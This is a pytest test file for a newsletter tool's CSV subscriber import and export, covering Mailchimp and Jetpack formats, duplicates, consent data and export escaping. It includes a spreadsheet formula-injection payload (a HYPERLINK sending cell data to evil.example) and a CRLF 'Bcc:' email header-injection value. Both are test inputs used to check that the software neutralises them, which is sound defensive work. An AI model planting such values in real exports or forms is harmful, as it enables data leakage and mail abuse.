"""CSV import and export against SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime

import pytest
from sqlalchemy import func, select, update

from digest.errors import SubscriberError
from digest.readers import addresses, optin, preferences, roster
from digest.readers.csvexport import EXPORT_FIELDS, export_csv
from digest.readers.csvio import import_csv
from digest.store.models import Subscriber, SubscriberStatus
from digest.tokens import Purpose


def _count(app, status=None):
    query = select(func.count()).select_from(Subscriber)
    if status is not None:
        query = query.where(Subscriber.status == status)
    with app.sessions() as s:
        return s.scalar(query)


def test_ten_thousand_rows_with_duplicates_and_bad_rows(app, tmp_path, transport):
    roster.add(app, "already0@example.org")
    optin.subscribe(app, "erased@example.org", ip=None, source="web")
    with app.sessions() as s:
        erased = s.execute(select(Subscriber.id, Subscriber.link_key).where(
            Subscriber.email == "erased@example.org")).one()
    preferences.delete_me(app, app.tokens.make(Purpose.PREFERENCES, erased.id, erased.link_key))

    path = tmp_path / "big list.csv"
    expected_bad, expected_dupes = 0, 0
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Email", "Name"])
        for n in range(10_000):
            if n % 100 == 7:
                writer.writerow([f"broken-{n}", "x"])
                expected_bad += 1
            elif n % 100 == 9:
                writer.writerow([f"Reader{n - 1}@EXAMPLE.org", "dup"])
                expected_dupes += 1
            elif n == 11:
                writer.writerow(["ALREADY0@example.org", ""])
            elif n == 13:
                writer.writerow(["Erased@example.org", ""])
            elif n == 15:
                writer.writerow(["x@example.org\r\nBcc: y@example.org", ""])
                expected_bad += 1
            else:
                writer.writerow([f"reader{n}@example.org", f"Reader {n}"])
    started = time.perf_counter()
    report = import_csv(app, path)
    elapsed = time.perf_counter() - started
    assert elapsed < 20, f"import took {elapsed:.1f}s"
    assert report.rows == 10_000
    reasons = [s.reason for s in report.skipped]
    assert sum(r.startswith("not a valid") or "line breaks" in r for r in reasons) == expected_bad
    assert sum(r.startswith("duplicate of line") for r in reasons) == expected_dupes
    assert "already known (active)" in reasons and "already known (deleted)" in reasons
    assert report.imported == 10_000 - len(report.skipped)
    assert [s.line for s in report.skipped] == sorted(s.line for s in report.skipped)
    first_dup = next(s for s in report.skipped if s.reason.startswith("duplicate"))
    assert (first_dup.line, first_dup.reason) == (11, "duplicate of line 10")  # row n=9, n=8
    assert _count(app) == 2 + report.imported
    with app.sessions() as s:
        key = addresses.email_hash("reader0@example.org", app.address_key)
        sub = s.scalars(select(Subscriber).where(Subscriber.email_hash == key)).one()
    assert (sub.status, sub.name, sub.consent_source) == (
        SubscriberStatus.ACTIVE, "Reader 0", "import:big list.csv")
    assert transport.sent[1:] == []  # an import mails nobody (only the sign-up above did)
    again = import_csv(app, path)
    assert again.imported == 0
    assert _count(app) == 2 + report.imported


def test_mailchimp_export(app):
    data = io.StringIO(
        '\ufeff"Email Address","First Name","Last Name","MEMBER_RATING","OPTIN_TIME"\n'
        '"ann@example.org","Ann","Smith",2,"2021-01-01 10:00:00"\n'
        '"bob@example.org","","Jones",3,""\n'
        '"","","",1,""\n'
    )
    report = import_csv(app, data, name="mailchimp_subscribed_members.csv")
    assert report.imported == 2 and report.rows == 3
    assert [(s.line, s.reason) for s in report.skipped] == [(4, "no email address in this row")]
    names = {s.email: s.name for s in roster.list_subscribers(app)}
    assert names == {"ann@example.org": "Ann Smith", "bob@example.org": "Jones"}


def test_jetpack_export_skips_readers_not_subscribed(app):
    data = io.StringIO(
        "email_address,display_name,date_subscribed,email_subscription\n"
        "ann@example.org,Ann,2022-01-10,Subscribed\n"
        "bob@example.org,Bob,2022-01-11,Not confirmed\n"
        "cat@example.org,Cat,2022-01-12,Not sending\n"
    )
    report = import_csv(app, data, name="jetpack.csv")
    assert report.imported == 1
    assert [(s.line, s.reason) for s in report.skipped] == [
        (3, "marked 'not confirmed' in the file"), (4, "marked 'not sending' in the file")]


def test_plain_and_headerless_columns(app):
    assert import_csv(app, io.StringIO("EMAIL\nA@example.org\n"), name="a.csv").imported == 1
    report = import_csv(app, io.StringIO("b@example.org\nc@example.org\n\nnope\n"), name="b.csv")
    assert report.imported == 2
    assert [(s.line, s.value) for s in report.skipped] == [(4, "nope")]
    assert "2 imported, 1 skipped" in report.describe()


def test_export_writes_every_field(app):
    roster.add(app, "ann@example.org", name="Ann, \"the\" reader")
    optin.subscribe(app, "bob@example.org", ip="203.0.113.5", source="web")
    out = io.StringIO()
    assert export_csv(app, out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == EXPORT_FIELDS
    assert rows[0]["name"] == 'Ann, "the" reader' and rows[0]["status"] == "active"
    assert rows[1]["consent_ip"] == "203.0.113.5" and rows[1]["status"] == "pending"
    # An export is a valid import for another instance (every address is already here).
    assert import_csv(app, io.StringIO(out.getvalue()), name="export.csv").imported == 0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_neutralises_spreadsheet_formulas(app, start):
    formula = f"{start}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
    roster.add(app, "=1+1@example.org")
    with app.sessions.begin() as s:  # as a sign-up form or an older import could store it
        s.execute(update(Subscriber).values(name=formula, consent_source=formula))
    out = io.StringIO()
    export_csv(app, out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["name"] == "'" + formula  # a spreadsheet shows it as text, never runs it
    assert row["email"] == "'=1+1@example.org"
    assert row["consent_source"] == "'" + formula
    for value in row.values():
        assert value == "" or value[0] not in "=+-@\t\r"
    # Importing the export elsewhere gets the very same address back.
    other = io.StringIO(out.getvalue())
    roster.remove(app, "=1+1@example.org")
    assert import_csv(app, other, name="export.csv").imported == 0
    assert _subscriber(app, "=1+1@example.org").name == formula  # the same reader


def _subscriber(app, address):
    with app.sessions() as s:
        return s.scalars(select(Subscriber).where(
            Subscriber.email_hash == addresses.email_hash(address, app.address_key))).one()


def test_mailchimp_consent_is_kept(app):
    data = io.StringIO(
        '"Email Address","First Name","OPTIN_TIME","OPTIN_IP","CONFIRM_TIME","CONFIRM_IP"\n'
        '"ann@example.org","Ann","2021-03-04 10:11:12","203.0.113.7","2021-03-04 10:15:00",'
        '"203.0.113.8"\n'
        '"bob@example.org","Bob","","","2021-05-06 07:08:09","2001:db8::1"\n'
        '"cat@example.org","Cat","","","",""\n'
        '"dan@example.org","Dan","last tuesday","not an ip","0000-00-00 00:00:00",""\n'
    )
    before = datetime.now(UTC).replace(microsecond=0)
    report = import_csv(app, data, name="members.csv")
    assert report.imported == 4 and report.skipped == []
    ann = _subscriber(app, "ann@example.org")
    assert ann.consent_at == datetime(2021, 3, 4, 10, 11, 12, tzinfo=UTC)
    assert ann.consent_ip == "203.0.113.7"
    assert ann.confirmed_at == datetime(2021, 3, 4, 10, 15, 0, tzinfo=UTC)
    assert ann.consent_source == "import:members.csv"
    bob = _subscriber(app, "bob@example.org")
    assert bob.consent_at == bob.confirmed_at == datetime(2021, 5, 6, 7, 8, 9, tzinfo=UTC)
    assert bob.consent_ip == "2001:db8::1"
    for address in ("cat@example.org", "dan@example.org"):  # empty or unparseable: import time
        sub = _subscriber(app, address)
        assert sub.consent_at is not None and sub.consent_at >= before
        assert sub.confirmed_at is not None and sub.confirmed_at >= before
        assert sub.consent_ip is None
        assert sub.consent_source == "import:members.csv"


def test_jetpack_subscription_date_is_the_consent_time(app):
    data = io.StringIO(
        "email,Subscribed On\n"
        "ann@example.org,2022-01-10 08:09:10\n"
        "bob@example.org,2022-01-11\n"
        "cat@example.org,garbage\n"
    )
    before = datetime.now(UTC).replace(microsecond=0)
    assert import_csv(app, data, name="wpcom.csv").imported == 3
    assert _subscriber(app, "ann@example.org").consent_at == datetime(
        2022, 1, 10, 8, 9, 10, tzinfo=UTC)
    assert _subscriber(app, "bob@example.org").consent_at == datetime(2022, 1, 11, tzinfo=UTC)
    assert _subscriber(app, "cat@example.org").consent_at >= before
    other = io.StringIO("email_address,date_subscribed\ndan@example.org,2020-02-03 04:05:06\n")
    assert import_csv(app, other, name="jetpack.csv").imported == 1
    dan = _subscriber(app, "dan@example.org")
    assert dan.consent_at == datetime(2020, 2, 3, 4, 5, 6, tzinfo=UTC)
    assert dan.consent_source == "import:jetpack.csv"


def test_header_without_email_column_is_refused(app):
    data = io.StringIO("foo,bar\nann@example.org,Ann\nbob@example.org,Bob\n")
    with pytest.raises(SubscriberError) as caught:
        import_csv(app, data, name="odd.csv")
    message = str(caught.value)
    assert "no email column found: expected one of email, email address" in message
    assert message.endswith("the header row was: foo, bar")
    assert _count(app) == 0
    # A header-less list of addresses is still read, its first row included.
    report = import_csv(app, io.StringIO("ann@example.org,Ann\nbob@example.org\n"), name="x.csv")
    assert (report.rows, report.imported) == (2, 2)
